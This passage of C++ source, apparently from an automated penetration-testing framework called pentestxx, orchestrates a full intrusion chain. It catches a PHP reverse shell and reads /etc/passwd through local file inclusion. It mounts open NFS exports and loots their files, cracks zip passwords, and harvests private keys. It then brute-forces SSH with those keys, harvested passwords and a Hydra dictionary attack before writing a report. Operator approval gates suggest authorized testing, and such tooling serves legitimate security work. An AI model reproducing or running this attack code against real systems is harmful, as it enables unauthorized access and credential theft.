      emit("shell_connected", {{"remote", shell.remote.to_string()}, {"port", shell.local_port}, {"banner", shell.banner}});
      record_shell({{"via", "php reverse shell"},
                    {"user", shell_user(shell.banner)},
                    {"port", port},
                    {"trigger_url", url_path(url)},
                    {"payload", rel(payload)}});
      return;
    } catch (const Error& e) {
      if (e.code() != ErrorCode::timeout) throw;
      emit("listener_timeout", {{"port", port}, {"trigger_url", url}});
    }
  }
}

void Orchestrator::record_shell(json value) {
  add_finding(FindingKind::shell_access, std::move(value));
  shell_ = true;
}

// -- http 8080 ------------------------------------------------------------------

void Orchestrator::http8080_vector(int port) {
  auto base = fmt::format("http://{}:{}", target_.to_string(), port);
  auto landing = run_command(toolio::build_http_get(base + "/"));
  std::optional<KnownApp> app;
  if (landing && landing->ok()) app = detect_app(landing->stdout_text);
  if (!app) {
    web_vector(port, base);
    return;
  }
  emit("app_detected", {{"app", app->name}, {"port", port}});
  auto jar = ws_ / "cookies" / fmt::format("{}_{}.jar", target_.to_string(), port);
  fs::create_directories(jar.parent_path());
  toolio::HttpOptions opts{jar, 10};
  auto reg = run_command(toolio::build_http_post_form(base + app->register_path, "username=pentestxx&password=pentestxx", opts),
                         "Register an account on " + app->name);
  if (!reg || !reg->ok()) return;

  payloads::LfiTarget lfi{base, app->lfi_path, app->depth, "/etc/passwd"};
  auto url = payloads::make_lfi_url(lfi);
  auto got = run_command(toolio::build_http_get(url, opts, true), "Read /etc/passwd through " + app->name);
  if (!got || !got->ok()) return;
  auto text = pre_block(got->stdout_text);
  auto parsed = toolio::parse_passwd(text);
  if (parsed.items.empty()) {
    note("LFI not confirmed on " + base);
    return;
  }
  add_finding(FindingKind::vulnerability, {{"title", "Local file inclusion"}, {"url", url_path(url)}, {"file", "/etc/passwd"}, {"port", port}});
  auto local = loot_dir(fmt::format("http{}", port)) / "passwd";
  write_text(local, text);
  record_artifact("passwd", local, text, fmt::format("http{}", port), "/etc/passwd");
  for (const auto& e : parsed.items) {
    if (!e.has_login_shell()) continue;
    add_finding(FindingKind::username, {{"username", e.name}, {"source", "lfi:/etc/passwd"}, {"uid", e.uid}, {"shell", e.shell}});
    creds_.add_system_user(e.name, e.uid == 0);
  }
}

// -- nfs ------------------------------------------------------------------------

void Orchestrator::nfs_vector(int port) {
  (void)port;
  auto out = run_command(toolio::build_export_list(target_));
  if (!out || !out->ok()) {
    note("No NFS exports listed by " + target_.to_string());
    return;
  }
  auto exports = toolio::parse_export_list(*out);
  for (const auto& ex : exports.items) {
    add_finding(FindingKind::export_share, {{"path", ex.export_path}, {"clients", ex.allowed_clients}});
    if (ex.allowed_clients == "*") {
      add_finding(FindingKind::vulnerability, {{"title", "World-readable NFS export"}, {"path", ex.export_path}});
    }
  }
  for (const auto& ex : exports.items) {
    if (shell_) return;
    auto mp = toolio::nfs_mount_point(ws_ / "mnt", ex.export_path);
    if (!run_command(toolio::build_mkdir(mp))) continue;
    auto m = run_command(toolio::build_nfs_mount(target_, ex.export_path, mp));
    if (!m || !m->ok()) continue;
    auto files = run_command(toolio::build_list_files(mp));
    if (!files || !files->ok()) continue;
    auto dir = loot_dir("nfs");
    for (const auto& remote : toolio::parse_name_list(files->stdout_text)) {
      auto local = dir / fs::path(remote).filename();
      auto cp = run_command(toolio::build_copy(remote, local));
      if (!cp || !cp->ok()) continue;
      auto remote_path = ex.export_path + remote.substr(std::min(remote.size(), mp.string().size()));
      auto name = local.filename().string();
      if (lower(name).ends_with(".zip")) {
        add_finding(FindingKind::artifact_file, {{"name", name}, {"path", rel(local)}, {"source", "nfs"}, {"remote", remote_path},
                                                 {"size", fs::file_size(local)}, {"sensitive_hits", json::array()}});
        crack_archive(local);
      } else {
        auto content = read_text(local);
        record_artifact(name, local, content, "nfs", remote_path);
        if (is_private_key(content)) creds_.add_key(local);
        else analyze_artifact(name, content, "nfs:" + remote_path);
      }
    }
  }
}

void Orchestrator::crack_archive(const fs::path& zip) {
  auto wl = choose_wordlist("archive " + zip.filename().string());
  if (!wl) return;
  auto pipe = toolio::build_zip_crack_pipeline(zip, wl->first);
  auto extract = run_command(pipe.stages.at(0));
  if (!extract || !extract->ok() || trim(extract->stdout_text).empty()) {
    note("Could not extract a hash from " + zip.filename().string());
    return;
  }
  write_text(pipe.hash_file, extract->stdout_text);
  auto out = run_command(pipe.stages.at(1), "Crack the password of " + zip.filename().string());
  if (!out) return;
  auto r = toolio::parse_crack_result(*out, zip.filename().string(), {wl->first.filename().string(), wl->second});
  if (!r.plaintext) {
    note(fmt::format("Archive password for {} not in {}", zip.filename().string(), r.wordlist));
    return;
  }
  add_finding(FindingKind::credential, {{"secret", *r.plaintext},
                                        {"kind", "archive_password"},
                                        {"archive", rel(zip)},
                                        {"wordlist", r.wordlist},
                                        {"attempts", r.attempts}});
  creds_.add_password(*r.plaintext);

  auto dest = zip.parent_path() / zip.stem();
  auto unz = run_command(toolio::build_unzip(zip, *r.plaintext, dest));
  if (!unz || !unz->ok()) return;
  std::vector<fs::path> files;
  for (const auto& e : fs::recursive_directory_iterator(dest)) {
    if (e.is_regular_file()) files.push_back(e.path());
  }
  std::sort(files.begin(), files.end());
  for (const auto& f : files) {
    auto content = read_text(f);
    auto name = f.filename().string();
    record_artifact(name, f, content, "archive:" + zip.filename().string(), zip.filename().string() + "/" + name);
    if (is_private_key(content)) {
      creds_.add_key(f);
      emit("key_found", {{"path", rel(f)}});
    } else {
      analyze_artifact(name, content, "archive:" + zip.filename().string() + "/" + name);
    }
  }
}

// -- ssh ------------------------------------------------------------------------

void Orchestrator::ssh_vector(int port) {
  ssh_seen_version_ = creds_.version();
  if (creds_.keys().empty() && creds_.passwords().empty() && creds_.pairs().empty()) {
    note(fmt::format("No credential material for SSH on port {} yet", port));
    return;
  }
  if (ssh_key_strategy(port)) return;
  ssh_password_strategy(port);
}

bool Orchestrator::ssh_key_strategy(int port) {
  auto users = creds_.login_candidates();
  auto secrets = creds_.passwords();
  secrets.push_back("");
  for (const auto& key : creds_.keys()) {
    auto checked = payloads::key_permission_contract(key);
    emit("key_permissions", {{"path", rel(key)}, {"before", octal(checked.before)}, {"changed", checked.changed}, {"after", "0600"}});
    for (const auto& user : users) {
      for (const auto& pp : secrets) {
        if (!tried_.insert("sshkey|" + key.string() + "|" + user + "|" + pp).second) continue;
        auto out = run_command(toolio::build_ssh_key_login(key, user, target_, port, pp),
                               "SSH as " + user + " with key " + key.filename().string());
        if (!out || !out->ok() || out->stdout_text.find("uid=") == std::string::npos) continue;
        record_shell({{"via", "ssh key"},
                      {"user", id_user(out->stdout_text).empty() ? user : id_user(out->stdout_text)},
                      {"key", rel(key)},
                      {"port", port},
                      {"id", std::string(trim(out->stdout_text))}});
        return true;
      }
    }
  }
  return false;
}

bool Orchestrator::ssh_password_strategy(int port) {
  std::vector<std::pair<std::string, std::string>> attempts = creds_.pairs();
  auto users = creds_.login_candidates();
  if (!users.empty() && !creds_.passwords().empty()) {
    auto g = gate("select_username", "Choose the SSH login name", users.front(), users);
    if (g.granted()) {
      const auto& user = users[std::min(g.choice(), users.size() - 1)];
      for (const auto& p : creds_.passwords()) push_unique(attempts, {user, p});
    }
  }
  for (const auto& [user, pass] : attempts) {
    if (!tried_.insert("sshpw|" + user + "|" + pass).second) continue;
    auto out = run_command(toolio::build_ssh_password_login(user, pass, target_, port), "SSH as " + user + " with a password");
    if (!out || !out->ok() || out->stdout_text.find("uid=") == std::string::npos) continue;
    record_shell({{"via", "ssh password"}, {"user", user}, {"port", port}, {"id", std::string(trim(out->stdout_text))}});
    return true;
  }
  return false;
}

void Orchestrator::hydra_fallback(int port) {
  auto users = creds_.login_candidates();
  push_unique(users, std::string("root"));
  auto g = gate("select_username", "Choose the login name for an SSH dictionary attack", users.front(), users);
  if (!g.granted()) {
    note("Operator declined the SSH dictionary attack");
    return;
  }
  const auto user = users[std::min(g.choice(), users.size() - 1)];
  auto wl = choose_wordlist("SSH dictionary attack on " + user);
  if (!wl) return;
  auto out = run_command(toolio::build_hydra(user, wl->first, target_, port), "Dictionary attack on SSH as " + user);
  if (!out) return;
  auto hits = toolio::parse_hydra(*out);
  if (hits.items.empty()) {
    note(fmt::format("Dictionary attack on SSH as {} found nothing in {}", user, wl->first.filename().string()));
    return;
  }
  const auto& hit = hits.items.front();
  add_finding(FindingKind::credential, {{"secret", hit.password}, {"kind", "ssh_password"}, {"user", hit.login},
                                        {"wordlist", wl->first.filename().string()}});
  creds_.add_pair(hit.login, hit.password);
  auto login = run_command(toolio::build_ssh_password_login(hit.login, hit.password, target_, port), "SSH as " + hit.login);
  if (login && login->ok() && login->stdout_text.find("uid=") != std::string::npos) {
    record_shell({{"via", "ssh password"}, {"user", hit.login}, {"port", port}, {"id", std::string(trim(login->stdout_text))}});
  }
}

// -- reporting ------------------------------------------------------------------

void Orchestrator::reporting() {
  auto g = gate("generate_report", "Generate the engagement report", "write report (" +
                join({s_.config_.report_formats.begin(), s_.config_.report_formats.end()}, ", ") + ")");
  if (!g.granted()) {
    note("Operator declined report generation");
    return;
  }
  auto events = s_.events_.all();
  auto first_day = events.empty() ? std::string{} : events.front().timestamp.substr(0, 10);
  auto today = format_timestamp(std::chrono::system_clock::now()).substr(0, 10);
  if (!events.empty()) today = events.back().timestamp.substr(0, 10);

  report::ReportMetadata meta;
  meta.target_ip = target_ == Ipv4{} ? "" : target_.to_string();
  meta.attacker_ip = attacker_ ? attacker_->to_string() : "";
  meta.author = "pentestxx operator";
  meta.date = today;
  meta.period = first_day == today ? today : first_day + " to " + today;
  meta.scope = scope_text_;

  auto m = gate("report_metadata", "Confirm report metadata (params: author, period, date)",
                fmt::format("author={}; date={}; period={}", meta.author, meta.date, meta.period));
  const auto& p = m.decision.params;
  if (p.is_object()) {
    if (p.contains("author") && p["author"].is_string()) meta.author = p["author"].get<std::string>();
    if (p.contains("period") && p["period"].is_string()) meta.period = p["period"].get<std::string>();
    if (p.contains("date") && p["date"].is_string()) {
      static const std::regex date_re(R"(^\d{4}-\d{2}-\d{2}$)");
      auto d = p["date"].get<std::string>();
      if (std::regex_match(d, date_re)) meta.date = d;
      else emit("warning", {{"message", "ignoring report date '" + d + "': expected YYYY-MM-DD"}});
    }
  }

  report::ReportInput input;
  input.metadata = meta;
  {
    std::lock_guard lock(s_.mu_);
    input.findings = s_.findings_;
  }
  input.raw_outputs = raw_;
  input.notes = notes_;
  auto doc = report::assemble_report(input, s_.advisor_.get());
  const auto& formats = s_.config_.report_formats;
  if (formats.contains("text")) {
    write_text(ws_ / "report.txt", report::emit_text(doc));
    emit("report_written", {{"format", "text"}, {"path", "report.txt"}});
  }
  if (formats.contains("json")) {
    write_text(ws_ / "report.json", report::emit_json(doc));
    emit("report_written", {{"format", "json"}, {"path", "report.json"}});
  }
  std::lock_guard lock(s_.mu_);
  s_.report_ = std::move(doc);
  s_.report_input_ = std::move(input);
}

}  // namespace pentestxx::engine
